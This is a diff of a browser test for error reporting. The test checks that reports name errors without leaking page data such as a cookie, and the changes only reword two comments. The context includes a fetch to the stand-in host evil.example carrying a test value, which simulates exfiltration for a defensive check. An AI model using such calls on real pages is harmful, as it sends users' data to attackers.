@@ -18,7 +18,7 @@ test('a page that is left right after errors reports them by name, with nothing 
     const loads = performance.getEntriesByType('resource').filter(({ name }) => name.includes('/sendReports-'));
     return loads.length === 2;
   });
-  // Cookies ignore the port, so the browser would also send this one to the receiver.
+  // Cookies ignore the port, so the browser could also send this one with the report.
   await tab.run(() => window.cookieStore.set('person', 'zebediah'));
 
   await tab.fill('Email', `zebediah-${uniqueEmail()}`);
@@ -32,7 +32,7 @@ test('a page that is left right after errors reports them by name, with nothing 
         window.fetch('https://evil.example/?zebediah').catch(() => undefined);
       }),
   );
-  // Firefox runs this in a sandbox, whose own errors and promises are not those of the page.
+  // Use the promises and errors of `window`, because Firefox runs this in a sandbox that has its own.
   await tab.run(() => {
     const recurse = (): number => 1 + recurse();
     try {
